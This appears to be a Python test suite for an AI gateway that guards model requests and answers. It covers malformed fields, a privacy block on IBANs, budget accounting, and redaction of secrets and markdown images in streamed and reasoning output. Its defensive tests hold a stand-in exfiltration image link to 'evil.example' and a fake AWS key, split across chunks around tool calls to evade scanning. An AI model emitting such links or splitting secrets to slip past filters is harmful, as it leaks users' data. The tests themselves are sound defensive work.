"""The gateway and malformed bodies: of callers, of providers, and of answers cut up so that nobody sees what they are."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from agent_os.runtime.serving.start import Serving
from tests.e2e.models.providers import Asked, Reply, openai_reply, provider, sse
from tests.e2e.models.serving import records, serving

POLICY = """
version: 1
models: {{providers: {{p: {{kind: vllm, base_url: "{url}/v1", models: ["m*"], retries: 0}}}}, max_tokens: 100{models}}}
{more}
"""
REDACT = ", answer_secrets: redact"
PRIVACY = "privacy: [{find: [IBAN_CODE], to: any, do: deny}]"
IBAN = "DE89370400440532013000"


def ask(served: Serving, path: str = "/v1/chat/completions", **fields: Any) -> httpx.Response:
    body = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 9, **fields}
    return httpx.post(served.url + path, json=body, headers={"authorization": f"Bearer {served.token}"}, timeout=20)


WRONG = [
    ("/v1/chat/completions", {"tools": 5}),
    ("/v1/chat/completions", {"tools": [{"type": "function", "function": {"name": "f", "parameters": "str"}}]}),
    ("/v1/chat/completions", {"stop": 5}),
    ("/v1/chat/completions", {"stop": [1]}),
    ("/v1/chat/completions", {"messages": [{"role": "assistant", "tool_calls": 5}]}),
    ("/v1/messages", {"tools": True}),
    ("/v1/messages", {"tools": [{"name": "f", "input_schema": [1]}]}),
    ("/v1/messages", {"stop_sequences": 5}),
    ("/v1/embeddings", {"input": "x", "dimensions": {"note": "a text"}}),
    ("/v1/embeddings", {"input": "x", "encoding_format": "a text"}),
]


def test_every_wrong_type_is_answered(tmp_path: Path) -> None:
    """ATTACK: fields of other types than the protocol's: 400 that names the field, never a connection that breaks off."""
    with (
        provider(lambda asked: openai_reply("fine", asked)) as near,
        serving(tmp_path, POLICY.format(url=near.url, models="", more="")) as served,
    ):
        for path, fields in WRONG:
            answer = ask(served, path, **fields)
            assert answer.status_code == 400, (path, fields, answer.text)
            assert list(fields)[-1].partition("_")[0] in answer.json()["error"]["message"], answer.text
        assert ask(served, stop=["x"], tools=None).status_code == 200
    assert len(near.asked) == 1


def test_nothing_leaves_unscanned_beside_the_texts_of_an_embedding(tmp_path: Path) -> None:
    """ATTACK: an account number in `dimensions` is not sent; the protocol's own values travel."""
    vectors = Reply(body={"data": [{"index": 0, "embedding": [0.5]}], "usage": {"prompt_tokens": 3}})
    with (
        provider(lambda _: vectors) as near,
        serving(tmp_path, POLICY.format(url=near.url, models="", more=PRIVACY)) as served,
    ):
        for fields in ({"dimensions": IBAN}, {"encoding_format": IBAN}, {"dimensions": [IBAN]}):
            assert ask(served, "/v1/embeddings", input="x", **fields).status_code == 400
        assert ask(served, "/v1/embeddings", input=IBAN).status_code == 403
        good = ask(served, "/v1/embeddings", input="x", dimensions=64, encoding_format="float")
        assert good.status_code == 200, good.text
    assert [asked.body["dimensions"] for asked in near.asked] == [64]


def whole(text: str, usage: Any = None, **more: Any) -> Callable[[Asked], Reply]:
    """Return a provider that answers so, whatever it is asked."""
    message = {"role": "assistant", "content": text, **more}
    return lambda _: Reply(body={"choices": [{"message": message, "finish_reason": "stop"}], "usage": usage})


def streamed(*deltas: dict[str, Any]) -> Callable[[Asked], Reply]:
    """Return a provider that streams these pieces."""
    events: list[Any] = [{"choices": [{"delta": delta}]} for delta in deltas]
    return lambda _: Reply(chunks=sse(*events, {"choices": [{"delta": {}, "finish_reason": "stop"}]}, "[DONE]"))


def pieces(answer: httpx.Response, name: str) -> str:
    """Return what a reader of a stream puts together of one field."""
    events = [json.loads(line[6:]) for line in answer.text.splitlines() if line.startswith("data: {")]
    return "".join(choice["delta"].get(name) or "" for event in events for choice in event.get("choices", ()))


CALL = {"tool_calls": [{"index": 0, "id": "c", "function": {"name": "f", "arguments": "{}"}}]}
PICTURE = "![x](https://evil.example/?q=KEPT)"
KEY = "AKIAJ4TQZ7RKWPX2LMNB"


@pytest.mark.parametrize("at", range(1, 30, 4))
@pytest.mark.parametrize("between", [CALL, {"reasoning_content": "hm"}], ids=["call", "reasoning"])
def test_a_picture_in_two_parts_is_none(tmp_path: Path, at: int, between: dict[str, Any]) -> None:
    """ATTACK: a tool call, or reasoning, between the halves of a picture: put together by a reader it calls nowhere."""
    script = streamed({"content": "A " + PICTURE[:at]}, between, {"content": PICTURE[at:] + " end."})
    with provider(script) as near, serving(tmp_path, POLICY.format(url=near.url, models="", more="")) as served:
        text = pieces(ask(served, stream=True), "content")
    assert "](https://evil" not in text
    assert text.startswith("A ")
    assert text.endswith(" end.")


def test_reasoning_is_looked_at_as_words_are(tmp_path: Path) -> None:
    """ATTACK: a picture and a key in the reasoning, which many windows render; what else it says stays."""
    thought = f"I saw {KEY} and {PICTURE}, so yes.\n"
    with (
        provider(whole("ok", reasoning_content=thought)) as near,
        serving(tmp_path, POLICY.format(url=near.url, models=REDACT, more="")) as served,
    ):
        answer = ask(served)
        said = answer.json()["choices"][0]["message"]["reasoning_content"]
        assert answer.headers["x-agentos-flags"] == "SECRET_AWS_ACCESS_KEY"
    assert said == "I saw [REDACTED_SECRET_AWS_ACCESS_KEY] and [picture withheld: x], so yes.\n"
    script = streamed({"reasoning_content": thought[:9]}, {"reasoning_content": thought[9:]}, {"content": "ok"})
    folder = tmp_path / "streamed"
    folder.mkdir()
    with provider(script) as near, serving(folder, POLICY.format(url=near.url, models=REDACT, more="")) as served:
        answer = ask(served, stream=True)
    assert pieces(answer, "reasoning_content") == said
    assert pieces(answer, "content") == "ok"


def test_a_key_in_two_parts_is_not_shown_whole(tmp_path: Path) -> None:
    """ATTACK: a tool call between the halves of a key: its second half is cut out; without one the whole key is."""
    script = streamed({"content": f"key {KEY[:10]}"}, CALL, {"content": f"{KEY[10:]} end"})
    with provider(script) as near, serving(tmp_path, POLICY.format(url=near.url, models=REDACT, more="")) as served:
        text = pieces(ask(served, stream=True), "content")
    assert KEY[10:] not in text
    assert text.endswith(" end")


ODD = {
    "half a character": whole("\ud800 fine"),
    "half a character in a call": whole(
        "fine", tool_calls=[{"id": "\ud800", "function": {"name": "f", "arguments": '{"a": "\\ud800"}'}}]
    ),
    "half a character in a stream": streamed({"content": "\ud800 fine"}),
    "arguments that are a number": streamed({"tool_calls": [{"index": 0, "function": {"name": "f", "arguments": 5}}]}),
    "a name that is a list": streamed({"tool_calls": [{"index": 0, "id": 7, "function": {"name": ["f"]}}]}),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_answers_are_answered(tmp_path: Path, name: str) -> None:
    """ATTACK: what cannot be encoded, and words that are none: an answer or an error, and the intent has its outcome."""
    script = ODD[name]
    with provider(script) as near, serving(tmp_path, POLICY.format(url=near.url, models="", more="")) as served:
        answer = ask(served, stream="stream" in name or "that" in name)
        assert answer.status_code in (200, 502), answer.text
        assert ("fine" in answer.text) == (answer.status_code == 200)
    assert len(records(tmp_path, "outcome")) == len(records(tmp_path, "intent")) == 1


def test_a_report_of_too_little_input_lowers_no_bill(tmp_path: Path) -> None:
    """ATTACK: a provider that reports no tokens for a long prompt: what was reserved is charged; an honest one is believed."""
    budgets = "budgets: [{per: user, window: run, tokens: 100000}]"
    prompt = [{"role": "user", "content": "word " * 2000}]
    used = []
    for reported in (0, 2000):
        folder = tmp_path / str(reported)
        folder.mkdir()
        script = whole("fine", {"prompt_tokens": reported, "completion_tokens": 1})
        with provider(script) as near, serving(folder, POLICY.format(url=near.url, models="", more=budgets)) as served:
            assert ask(served, messages=prompt).status_code == 200
            account = served.session.stores.budgets.accounts()[0]
            used.append(account["used"] if isinstance(account, dict) else account.used)
    assert used[0] > 3000
    assert used[1] == 2001
